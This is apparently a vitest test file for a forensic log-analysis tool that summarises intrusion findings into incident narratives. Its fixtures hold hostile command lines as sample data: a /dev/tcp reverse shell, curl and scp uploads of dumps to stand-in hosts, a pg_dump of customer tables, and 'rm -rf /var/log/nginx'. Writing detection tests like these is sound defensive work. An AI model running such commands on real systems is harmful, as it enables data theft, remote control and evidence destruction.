/** Stories as tables: findings in, statements out. */
import { describe, expect, it } from 'vitest';
import type { FileAccount, Finding, Timeline } from '../../src/detect/finding.ts';
import { type Story, tellStories } from '../../src/detect/story/story.ts';
import { headlineOf, sayStories, statementText } from '../../src/detect/story/tell.ts';
import { touchedBy } from '../../src/detect/story/touched.ts';
import { createTraces } from '../../src/detect/story/traces.ts';
import type { Event } from '../../src/events/event.ts';
import type { Level } from '../../src/events/level.ts';
import { createStyle } from '../../src/terminal/style.ts';
import { storiesText } from '../../src/terminal/views/story.ts';
import { account, finding } from '../store/sample-entries.ts';

const MINUTE = 60_000_000;
const START = Date.UTC(2026, 2, 1, 8) * 1_000;

interface Sketch {
  title: string;
  tactics: string[];
  techniques?: string[];
  at: number;
  level?: Level;
  count?: number;
  entities?: Record<string, string[]>;
  event?: Record<string, unknown>;
}

const found = (sketch: Sketch): Finding => {
  const { title, tactics, techniques = [], at, level = 'high', count = 1 } = sketch;
  const { entities = {}, event = {} } = sketch;
  return {
    ...finding(title),
    rule: { ...finding('x').rule, title, tactics, techniques },
    evidence: [{ ...finding('x').evidence[0]!, line: at + 1, offset: at * 100 }],
    ...{ level, firstUs: START + at * MINUTE, lastUs: START + at * MINUTE, atUs: undefined },
    ...{ count, entities, event },
  };
};

const web = { 'source.ip': ['203.0.113.7'], 'host.name': ['web01'] };
const BREACH: Sketch[] = [
  { title: 'Scanner', tactics: ['reconnaissance'], at: 0, level: 'medium', entities: web },
  {
    ...{ title: 'Web shell', tactics: ['persistence'], techniques: ['T1505.003'], at: 5, count: 8 },
    entities: { ...web, 'url.path': ['/up/shell.php'] },
    event: { user: { name: 'www-data' } },
  },
  {
    ...{ title: 'sudo escape', tactics: ['privilege-escalation'], at: 9 },
    entities: { 'host.name': ['web01'], 'process.command_line': ['/usr/bin/tar --checkpoint=1'] },
    event: {
      user: { name: 'www-data', effective: { name: 'root' } },
      process: { name: 'sudo' },
    },
  },
  {
    ...{ title: 'New account', tactics: ['persistence'], techniques: ['T1136.001'], at: 12 },
    entities: { 'host.name': ['web01'], 'user.name': ['sysupdate'] },
  },
  {
    ...{ title: 'Dump', tactics: ['collection'], techniques: ['T1005'], at: 18 },
    entities: {
      'host.name': ['web01'],
      'process.command_line': ['pg_dump --host=10.0.0.3 --table=customers --table=orders shop'],
    },
  },
  {
    ...{ title: 'Upload', tactics: ['exfiltration'], techniques: ['T1048'], at: 20 },
    entities: {
      'host.name': ['web01'],
      'process.command_line': ['curl -T /tmp/shop.tgz https://192.0.2.9:8443/in/'],
    },
  },
  {
    ...{ title: 'Logs emptied', tactics: ['defense-evasion'], at: 30 },
    entities: { 'host.name': ['web01'] },
  },
];

const file = (path: string, fromMinute: number, toMinute: number, format: string): FileAccount => ({
  ...account(path, 'ab'.repeat(32)),
  ...{ format, lines: 1_000, parsed: 1_000, joined: 0, skipped: 0, skips: {}, problem: undefined },
  ...{ firstUs: START + fromMinute * MINUTE, lastUs: START + toMinute * MINUTE },
});
const FILES = [
  file('web01/access.log', -600, 600, 'access'),
  file('web01/audit.log', -600, 31, 'auditd'),
];

const tell = (sketches: readonly Sketch[], files = FILES): Story[] =>
  tellStories({ findings: sketches.map(found), files });
const textOf = (story: Story | undefined, label: string): string | undefined => {
  const statement = story?.statements.find((one) => one.label === label);
  return statement === undefined ? undefined : statementText(statement);
};

describe('a story', () => {
  const [story] = tell(BREACH);

  it.each<[string, string | RegExp]>([
    ['Who', '203.0.113.7 (web)'],
    ['In', 'Web shell at /up/shell.php, 8 requests (2026-03-01 08:05Z)'],
    ['As', /^www-data \(.*\) > root \(sudo tar\) \(.*\) > new account sysupdate/],
    ['Stays', /^web shell: \/up\/shell\.php \(.*\); account: sysupdate \(2026-03-01 08:12Z\)$/],
    ['Took', /^dump: tables customers, orders \(.*\); sent: \/tmp\/shop.tgz to 192.0.2.9:8443/],
    ['Hid', 'Logs emptied (2026-03-01 08:30Z)'],
    ['Open', /^the last act is 9h 30m before the logs end; audit.log is silent from then on/],
    ['Open', /no log of .*the application.*web01's own network traffic or the database server/],
    ['Open', /every line was read$/],
  ])('says of %s: %s', (label, expected) => {
    if (typeof expected === 'string') expect(textOf(story, label)).toBe(expected);
    else expect(textOf(story, label)).toMatch(expected);
  });

  it('has a headline, at most ten statements, and a place in every one but what is open', () => {
    expect(headlineOf(story!)).toBe(
      'web01 was broken into, 2026-03-01 08:00Z to 2026-03-01 08:30Z (30m)',
    );
    expect(story!.statements.length).toBeLessThanOrEqual(10);
    for (const { label, items } of story!.statements.filter((one) => one.label !== 'Open'))
      expect([label, items.some(({ place }) => place !== undefined)]).toEqual([label, true]);
    expect(story!.findings.length).toBe(BREACH.length);
  });

  it('is the same in whatever order the findings come', () => {
    const reversed = tellStories({ findings: BREACH.map(found).reverse(), files: FILES });
    expect(sayStories(reversed)).toEqual(sayStories([story!]));
  });

  it('bears findings without a time, and no findings', () => {
    const timeless = { ...found(BREACH[1]!), level: 'critical' as const, firstUs: undefined };
    const told = tellStories({ findings: [{ ...timeless, lastUs: undefined }], files: [] });
    expect(sayStories(told)[0]?.text).toContain('at times that no line tells');
    expect(tell([])).toEqual([]);
  });
});

describe('what is a story and what is not', () => {
  const probe = (at: number, ip: string): Sketch => ({
    ...{ title: 'SQL injection', tactics: ['initial-access'], techniques: ['T1190'], at },
    entities: { 'source.ip': [ip], 'url.path': ['/search'] },
  });
  const login = (at: number, ip: string, host: string, name: string): Sketch => ({
    ...{ title: 'Login after guessing', tactics: ['credential-access'], at, level: 'critical' },
    ...{ techniques: ['T1110', 'T1078'] },
    entities: { 'source.ip': [ip], 'user.name': [name], 'host.name': [host] },
    event: { user: { name }, process: { name: 'sshd' } },
  });
  it.each<[string, Sketch[], string[]]>([
    ['attempts alone are none', [probe(0, '192.0.2.1'), probe(5, '192.0.2.2')], []],
    ['a login after guessing is one', [login(0, '192.0.2.1', 'a', 'ana')], ['192.0.2.1']],
    [
      'two intruders on two machines are two',
      [login(0, '192.0.2.1', 'a', 'ana'), login(900, '192.0.2.2', 'b', 'bob')],
      ['192.0.2.1', '192.0.2.2'],
    ],
    [
      'an attempt of somebody else belongs to none',
      [login(0, '192.0.2.1', 'a', 'ana'), probe(3, '192.0.2.77')],
      ['192.0.2.1'],
    ],
    [
      'a second address out of nothing, soon, on the same machine, is the same intruder',
      [login(0, '192.0.2.1', 'a', 'ana'), login(30, '192.0.2.2', 'a', 'bob')],
      ['192.0.2.1, 192.0.2.2'],
    ],
  ])('%s', (_, sketches, whos) => {
    const told = tell(sketches, []).map(
      (story) =>
        story.statements
          .find(({ label }) => label === 'Who')
          ?.items.map(({ text }) => text.split(' ')[0])
          .join(', ') ?? '',
    );
    expect(told.sort()).toEqual(whos);
  });

  const shellFact = (at: number, ip: string, level: Level, host = 'a'): Sketch => ({
    ...{ title: 'Web shell', tactics: ['persistence'], techniques: ['T1505.003'], at, level },
    entities: { 'source.ip': [ip], 'host.name': [host], 'url.path': ['/up/x.php'] },
  });

  it('is one where one uses the web shell of another, whatever its name, and says where it lies', () => {
    const [story, ...rest] = tell(
      [shellFact(0, '192.0.2.1', 'high'), shellFact(90, '192.0.2.2', 'critical')],
      [],
    );
    expect(rest).toEqual([]);
    expect(textOf(story, 'Who')).toMatch(/^192\.0\.2\.1 .*192\.0\.2\.2/);
    expect(textOf(story, 'Stays')).toBe('web shell: /up/x.php (2026-03-01 08:00Z)');
    expect(textOf(story, 'In')).not.toMatch(/x\.php.*x\.php/);
    expect(story?.firstUs).toBe(START);
  });

  it('is another where the same path is a web shell of another machine', () => {
    const both = [
      shellFact(0, '192.0.2.1', 'critical'),
      shellFact(90, '192.0.2.2', 'critical', 'b'),
    ];
    expect(tell(both, []).length).toBe(2);
  });

  it.each([
    [1, /^192\.0\.2\.100 \(web, the same web shell at \/up\/x\.php\), 192\.0\.2\.2 /],
    [40, /^192\.0\.2\.2 \(web\)$/],
  ])('names who else was answered by a web shell, not the visitors of a page: %s', (many, who) => {
    const traces = createTraces(['/up/x.php']);
    const visit = (index: number, status: number): void =>
      traces.add({
        location: index,
        event: {
          ...{ format: 'access', timeUs: START - MINUTE + index, 'url.path': '/up/x.php' },
          ...{ 'source.ip': `192.0.2.${100 + index}`, 'http.response.status_code': status },
        } as Event,
      });
    for (let index = 0; index < many; index += 1) visit(index, 200);
    visit(90, 404);
    const findings = [found(shellFact(0, '192.0.2.2', 'critical'))];
    expect(textOf(tellStories({ findings, files: [], traces })[0], 'Who')).toMatch(who);
  });

  it('names a file that was carried off there alone', () => {
    const read: Sketch = {
      ...{ title: 'Handed out', tactics: ['credential-access'], techniques: ['T1552.001'], at: 5 },
      ...{
        count: 2,
        entities: { 'source.ip': ['192.0.2.2'], 'url.path': ['/.env', '/db.sql.gz'] },
      },
    };
    const took: Sketch = {
      ...{ title: 'Fetched', tactics: ['exfiltration'], techniques: ['T1567'], at: 5 },
      entities: { 'source.ip': ['192.0.2.2'], 'url.path': ['/db.sql.gz'] },
    };
    const [story] = tell([shellFact(0, '192.0.2.2', 'critical'), read, took], []);
    expect(textOf(story, 'Took')).toMatch(/^fetched at \/db\.sql\.gz /);
    expect(textOf(story, 'Read')).toMatch(/^keys and passwords read at \/\.env \(/);
    const [other] = tell(
      [
        shellFact(0, '192.0.2.2', 'critical'),
        { ...read, entities: { ...read.entities, 'url.path': ['/db.sql.gz'] } },
        took,
      ],
      [],
    );
    expect(textOf(other, 'Read')).toBeUndefined();
  });

  it('tells further logins from the lines it cites where no logs are at hand, not from what a stranger calls himself', () => {
    const guessed = found({
      ...{
        title: 'Login after guessing',
        tactics: ['credential-access'],
        at: 0,
        level: 'critical',
      },
      ...{ techniques: ['T1110', 'T1078'] },
      entities: { 'source.ip': ['192.0.2.1'], 'user.name': ['ana'], 'host.name': ['a'] },
      event: { user: { name: 'ana' }, process: { name: 'sshd' } },
    });
    const [first] = guessed.evidence;
    const line = (text: string): Finding['evidence'][number] => ({
      ...{ ...first!, timeUs: START + 9 * MINUTE },
      raw: `Mar  1 08:09:00 a sshd[7]: ${text} from 192.0.2.1 port 22 ssh2`,
    });
    const evidence = [
      ...[first!, line('Accepted publickey for root')],
      line('Invalid user x sshd[1]: Accepted password for eve from 192.0.2.1 port 1'),
    ];
    const [story] = tellStories({ findings: [{ ...guessed, evidence }], files: [] });
    expect(textOf(story, 'In')).toMatch(
      /; SSH login: root, from 192\.0\.2\.1 \(2026-03-01 08:09Z\)$/,
    );
  });

  it('of an incident that somebody opened there always is one', () => {
    const findings = [found(probe(0, '192.0.2.1'))];
    expect(tellStories({ findings, files: [], isIncident: true }).length).toBe(1);
  });
});

describe('what a statement says', () => {
  const from = (ip: string): Record<string, string[]> => ({
    ...{ 'source.ip': [ip], 'host.name': ['a'], 'user.name': ['ana'] },
  });
  const login = (ip: string, count: number, decided?: number): Finding => ({
    ...found({
      ...{ title: 'SSH login succeeded after brute force', tactics: ['credential-access'] },
      ...{ techniques: ['T1110.001', 'T1078'], at: 9, level: 'critical', count },
      entities: from(ip),
      event: {
        user: { name: 'ana' },
        process: { name: 'sshd' },
        event: { outcome: 'success', category: ['authentication'] },
      },
    }),
    ...(decided !== undefined && { decided }),
  });
  const guessing = found({
    ...{ title: 'SSH brute force', tactics: ['credential-access'], techniques: ['T1110.001'] },
    ...{ at: 0, level: 'medium', count: 40, entities: { ...from('192.0.2.1') } },
  });
  const sudo = (commands: string[]): Finding =>
    found({
      ...{ title: 'Dangerous command', tactics: ['privilege-escalation', 'defense-evasion'] },
      ...{ techniques: ['T1548.003', 'T1070.002'], at: 12 },
      entities: { 'host.name': ['a'], 'user.name': ['ana'], 'process.command_line': commands },
      event: { user: { name: 'ana', effective: { name: 'root' } }, process: { name: 'sudo' } },
    });
  const removed = found({
    ...{ title: 'Log files removed', tactics: ['defense-evasion'], techniques: ['T1070.002'] },
    at: 12,
    entities: { ...from('192.0.2.1'), 'process.command_line': ['rm -rf /var/log/nginx'] },
  });
  const probe = found({
    ...{ title: 'Probe', tactics: ['reconnaissance'], at: 9, level: 'medium' },
    entities: from('192.0.2.1'),
  });
  const shells = found({
    ...{ title: 'Shell', tactics: ['persistence'], techniques: ['T1505.003'], at: 3, count: 2 },
    entities: { ...from('192.0.2.1'), 'process.command_line': ['sh -c id', 'bash /tmp/evil.sh'] },
  });
  const outside = login('192.0.2.1', 42, 2);

  it.each<[string, Finding[], string, RegExp | undefined]>([
    ['guessing is looking', [guessing, outside], 'Looked', /^SSH brute force, 40 times/],
    ['guessing is no reading', [guessing, outside], 'Read', undefined],
    ['failures without the logins', [outside], 'In', /^SSH login: ana, 40 failures before/],
    ['one login', [login('192.0.2.1', 41)], 'In', /, 40 failures before/],
    ['what was got is not looked for', [outside, probe], 'Looked', undefined],
    [
      'a folder of logs removed is hiding',
      [outside, removed],
      'Hid',
      /^logs emptied: \/var\/log\/nginx/,
    ],
    ['commands are counted as such', [outside, shells], 'In', /evil\.sh, 2 commands/],
  ])('%s', (_, findings, label, expected) => {
    const text = textOf(tellStories({ findings, files: FILES })[0], label);
    if (expected === undefined) expect(text).toBeUndefined();
    else expect(text).toMatch(expected);
  });

  it.each<[string, Finding, string]>([
    [
      'a doubted login',
      { ...login('10.0.0.8', 7), doubt: 'mistyped' },
      'a may have been broken into',
    ],
    ['a login', login('10.0.0.8', 41), 'a was broken into'],
  ])('%s: the headline', (_, finding, title) => {
    expect(tellStories({ findings: [finding], files: [] })[0]?.title).toBe(title);
  });

  it.each<[string, boolean]>([
    ['x.log', true],
    ['auth.log', true],
  ])('%s with findings of logins is a log of logins', (name, isThere) => {
    const path = `a/${name}`;
    const finding = { ...outside, evidence: [{ ...outside.evidence[0]!, file: path }] };
    const files = [file(path, -60, 60, 'syslog')];
    const open = textOf(tellStories({ findings: [finding], files })[0], 'Open');
    expect([open?.includes('every line was read'), open?.includes('logins on a')]).toEqual([
      ...[true, !isThere],
    ]);
  });

  it('names a further login of the same address', () => {
    const traces = createTraces();
    const logins = new Map([['192.0.2.1', new Map([['root', START + 11 * MINUTE]])]]);
    const [story] = tellStories({
      findings: [outside],
      files: [],
      traces: { ...traces, logins },
    });
    expect(textOf(story, 'In')).toMatch(
      /; SSH login: root, from 192\.0\.2\.1 \(2026-03-01 08:11Z\)$/,
    );
  });

  it('is the same of an act as of its findings: who rose when', () => {
    const lead = sudo(['/usr/bin/rm -rf /var/log/nginx', '/bin/bash']);
    const { event: _, entities: __, evidence, ...other } = sudo(['/bin/bash']);
    const early = { ...evidence[0]!, line: 4, offset: 1, raw: 'COMMAND=/bin/bash' };
    const rose = { ...other, id: 'rose', level: 'low' as const, firstUs: START + 10 * MINUTE };
    const own = [{ ...lead.evidence[0]!, raw: 'COMMAND=/usr/bin/rm -rf /var/log/nginx' }];
    const act = { others: [{ ...rose, evidence: early }], unnamed: 0, furtherValues: {} };
    const made = found({ ...BREACH[3]!, at: 11, entities: { ...from('192.0.2.1') } });
    const findings = [outside, { ...lead, evidence: own, act }, made];
    const [story] = tellStories({ findings, files: [] });
    expect(textOf(story, 'As')).toMatch(/^ana .* > root \(sudo bash\) \(2026-03-01 08:10Z\)/);
  });
});

describe('the line in the place of a story', () => {
  const grave = found({ title: 'Rights granted', tactics: ['privilege-escalation'], at: 0 });
  it.each<[string, Finding[], RegExp]>([
    ['nothing grave', [{ ...grave, level: 'medium' }], /^No break-in seen: looked for /],
    ['one grave finding', [grave], /, but 1 finding of level high or above below: look at it /],
    ['two', [grave, { ...grave, level: 'critical' }], /, but 2 findings of level high or above /],
  ])('%s', (_, findings, expected) => {
    const timeline = { stories: [], files: [], findings, rulesRun: 1, totals: { events: 1 } };
    const style = createStyle({ isTTY: false, columns: 200 }, 'never', {});
    const lines = storiesText(
      timeline as unknown as Timeline,
      { length: 'short', linesAbove: 0 },
      style,
    );
    expect([...lines].join('').replaceAll('\n', ' ')).toMatch(expected);
  });
});

describe('what a command touches', () => {
  it.each<[string, string[], string[], string[]]>([
    [
      'pg_dump --host=10.0.0.3 -t a --table=b --file=/tmp/x.sql shop',
      ['/tmp/x.sql'],
      ['10.0.0.3'],
      ['a', 'b'],
    ],
    [
      'curl -F file=@/tmp/x.sql https://u:p@192.0.2.9:8443/in',
      ['/tmp/x.sql'],
      ['192.0.2.9:8443'],
      [],
    ],
    ['bash -i >& /dev/tcp/192.0.2.9/4444 0>&1', [], ['192.0.2.9:4444'], []],
    ['scp /srv/a.tgz root@drop.example.org:/in/', ['/srv/a.tgz'], ['drop.example.org'], []],
    ['aws s3 cp /srv/a.tgz s3://bucket/key', ['/srv/a.tgz'], ['s3://bucket'], []],
    ['tar -t archive.tar', [], [], []],
    ['/usr/bin/id', [], [], []],
  ])('%s', (command, files, destinations, tables) => {
    expect(touchedBy(command)).toEqual({ files, destinations, tables });
  });
});
